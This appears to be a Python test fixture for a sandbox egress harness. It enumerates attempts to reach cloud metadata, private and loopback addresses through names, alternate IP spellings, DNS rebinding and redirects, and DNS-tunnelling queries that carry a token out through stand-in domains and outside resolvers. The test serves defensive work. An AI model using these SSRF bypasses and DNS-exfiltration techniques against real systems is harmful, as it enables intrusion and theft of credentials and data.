"""Attempts at addresses that no name and no spelling may lead to, and questions that carry data out."""

from __future__ import annotations

from ipaddress import ip_address

from tests.harness.escape.egress import Row
from tests.harness.world import METADATA, OWN, OWN6, OWN_PRIVATE, PRIVATE, RESOLVER

# Addresses that no name may lead to, by what they are.
KINDS: dict[str, list[str]] = {
    "metadata": [METADATA],
    "metadata-of-azure": ["168.63.129.16"],
    "metadata-of-alibaba": ["100.100.100.200"],
    "metadata-of-oracle": ["192.0.0.192"],
    "metadata-of-aws-6": ["fd00:ec2::254"],
    "link-local": ["169.254.9.9"],
    "private-10": [PRIVATE],
    "private-172": ["172.16.9.9"],
    "private-192": ["192.168.7.7"],
    "carrier-grade": ["100.64.5.5"],
    "documentation": ["203.0.113.5"],
    "documentation-1": ["192.0.2.9"],
    "documentation-2": ["198.51.100.7"],
    "documentation-6": ["2001:db8::5"],
    "benchmark": ["198.18.5.5"],
    "reserved": ["240.1.1.1"],
    "this-network": ["0.1.2.3"],
    "relay-of-6to4": ["192.88.99.1"],
    "unique-local": ["fc00::9"],
    "site-local": ["fec0::9"],
    "mapped": ["::ffff:169.254.9.9"],
    "compatible": ["::169.254.9.9"],
    "6to4": ["2002:a9fe:a9fe::1"],
    "nat64": ["64:ff9b::a9fe:a9fe"],
    "nat64-local": ["64:ff9b:1::a9fe:a9fe"],
    "teredo": ["2001:0:4136:e378:8000:63bf:5601:5601"],
    "loopback": ["127.0.0.1"],
    "loopback-elsewhere": ["127.9.9.9"],
    "loopback-6": ["::1"],
    "denied": ["151.101.9.9"],
    "denied-in-nat64": ["64:ff9b::9765:909"],
    "own": [OWN],
    "own-private": [OWN_PRIVATE],
    "own-6": [OWN6],
}
# Where a mapped address arrives, the kernel says the address that it means.
ARRIVES_AS = {"mapped": "169.254.9.9"}


def kind_row(kind: str, address: str, port: int) -> Row:
    """Return an attempt at an address by an allowed name that leads there."""
    how = "get" if port == 80 else "tls"
    code = f'return {how}("{kind}.kinds.example", T)'
    return Row(
        name=f"a name for {kind}, port {port}",
        code=code,
        at=(ARRIVES_AS.get(kind, str(ip_address(address))),),
        also_open=True,
    )


BY_NAME = (
    *(kind_row(kind, addresses[0], 80) for kind, addresses in KINDS.items()),
    *(kind_row(kind, KINDS[kind][0], 443) for kind in ("metadata", "private-10", "loopback", "own")),
    Row(name="an own address that a range covers", code='return get("own10.example", T)', at=(OWN_PRIVATE,)),
    Row(name="metadata that a range covers", code='return get("shared10.example", T)', at=(METADATA,)),
    Row(name="a name's other name", code='return get("alias.example", T)', at=(METADATA,), also_open=True),
    Row(
        name="an answer that has a second address",
        code="""
        found = {info[4][0] for info in socket.getaddrinfo("mixed.example", 80, type=socket.SOCK_STREAM)}
        return b"".join(get(address, T, name="mixed.example") for address in sorted(found))
        """,
        at=(METADATA,),
        also_open=True,
    ),
    *(
        Row(
            name=f"rebinding of {name}",
            code=f"""
            heard = get("{name}", "first")
            for _ in range(4):
                heard += get("{name}", T)
            return heard
            """,
            at=(METADATA,),
            also_open=name == "turns.example",
        )
        for name in ("turns.example", "turns10.example")
    ),
)
SPELLED = {
    "decimal": "2852039166",
    "hexadecimal": "0xA9FEA9FE",
    "octal": "0251.0376.0251.0376",
    "three parts": "169.254.43518",
    "two parts": "169.16689662",
    "mixed": "0xa9.254.0251.0xfe",
    "usual": METADATA,
    "mapped": "::ffff:a9fe:a9fe",
}
LITERALS = {
    "carrier-grade": "100.64.5.5",
    "private": PRIVATE,
    "6to4": "2002:a9fe:a9fe::1",
    "nat64": "64:ff9b::a9fe:a9fe",
    "own": OWN,
    "own private": OWN_PRIVATE,
    "own in version 6": OWN6,
    "reserved": "240.1.1.1",
    "this network": "0.1.2.3",
    "benchmark": "198.18.5.5",
    "azure": "168.63.129.16",
    "documentation": "192.0.2.9",
    "denied": "203.0.113.77",
    "unique local": "fd00:ec2::254",
    "the host's resolver": RESOLVER,
    "link-local": "169.254.9.9",
}
ON_LOOPBACK = {
    "loopback": "127.0.0.1",
    "other loopback": "127.0.0.53",
    "version 6": "::1",
    "unspecified": "0.0.0.0",
    "zero": "0",
    "short": "127.1",
    "by name": "localhost",
    "mapped": "::ffff:7f00:1",
}
BY_ADDRESS = (
    *(
        Row(name=f"metadata, {spelling}", code=f'return get("{text}", T)', at=(METADATA,), also_open=True)
        for spelling, text in SPELLED.items()
    ),
    Row(name="metadata by TLS", code=f'return tls("{METADATA}", T)', at=(METADATA,), also_open=True),
    *(
        Row(name=f"a literal: {what}", code=f'return get("{text}", T)', also_open=True)
        for what, text in LITERALS.items()
    ),
    *(
        Row(name=f"the host's loopback: {what}", code=f'return get("{text}", T)', also_open=True)
        for what, text in ON_LOOPBACK.items()
    ),
    Row(name="an own address that is listed", code=f'return get("{OWN}", T, 8080)', at=(OWN,)),
    Row(name="a literal on a port that nobody serves", code='return get("8.8.8.8", T, 22)', also_open=True),
    Row(name="a public literal", code='return get("8.8.8.8", T)'),
    Row(name="a public literal of version 6", code='return get("2606:4700::1111", T)'),
    Row(name="metadata with an allowed Host", code=f'return get("{METADATA}", T, name="good.example")', also_open=True),
    *(
        Row(
            name=f"a redirect to {what}",
            code=f"""
            import urllib.error, urllib.request
            try:
                url = f"{url}".encode().hex()
                return urllib.request.urlopen(f"http://good.example/redirect/{{url}}", timeout=4).read()
            except urllib.error.HTTPError as error:
                return error.read()
            """,
            also_open=what != "another name",
        )
        for what, url in {
            "metadata": f"http://{METADATA}/{{T}}",
            "a name for metadata": "http://metadata.kinds.example/{T}",
            "another name": "http://third.example/{T}",
            "a denied name": "http://x.denied.wild.example/{T}",
            "loopback": "http://127.0.0.1:8080/{T}",
        }.items()
    ),
)
QUESTIONS = {
    "a name that is not listed": 'ask(f"{T}.other.example")',
    "a name below a wildcard, without a connection": 'ask(f"{T}.wild.example")',
    "a name below a listed one": 'ask(f"{T}.good.example")',
    "by the C library": 'socket.getaddrinfo(f"{T}.other.example", 80)[0][4][0]',
    "by the C library, below a wildcard": 'socket.getaddrinfo(f"{T}.wild.example", 80)[0][4][0]',
    "many labels": 'ask(".".join([T] + ["x" * 60] * 3 + ["wild.example"]))',
    "version 6": 'ask(f"{T}.wild.example", 28)',
    "a text": 'ask(f"{T}.wild.example", 16)',
    "anything": 'ask(f"{T}.wild.example", 255)',
    "NULL": 'ask(f"{T}.wild.example", 10)',
    "HTTPS": 'ask(f"{T}.wild.example", 65)',
    "a service": 'ask(f"_{T}._tcp.wild.example", 33)',
    "an address's name": 'ask(f"{T}.9.9.10.in-addr.arpa", 12)',
    "data behind the question": 'ask("good.example", options=b"\\xfd\\xe9\\0\\x0d" + T.encode())',
    "an update": 'ask(f"{T}.wild.example", opcode=5)',
    "no question": "datagram(resolver(), 53, T.encode())",
    "by TCP": 'ask_by_tcp(f"{T}.wild.example")',
    "a transfer of a zone": 'ask_by_tcp(f"{T}.example", 252)',
    "another resolver": 'ask(f"{T}.wild.example", server="8.8.8.8")',
    "another resolver by TCP": 'ask_by_tcp(f"{T}.good.example", server="8.8.8.8")',
    "the host's resolver": f'ask(f"{{T}}.good.example", server="{RESOLVER}")',
    "the host's resolver by TCP": f'ask_by_tcp(f"{{T}}.good.example", server="{RESOLVER}")',
    "another resolver of version 6": 'datagram("2606:4700::1111", 53, question(f"{T}.good.example"), socket.AF_INET6)',
    "a resolver by TLS": 'http("8.8.8.8", T, 853)',
    "a resolver by HTTPS": 'tls("8.8.8.8", f"dns-query?{T}")',
    "a resolver of the link": 'datagram("224.0.0.251", 5353, question(f"{T}.local"))',
}
TUNNELS = tuple(
    Row(name=f"a question: {what}", code=f"return {code}", also_open=what != "a resolver by HTTPS")
    for what, code in QUESTIONS.items()
)

ROWS = (*BY_NAME, *BY_ADDRESS, *TUNNELS)
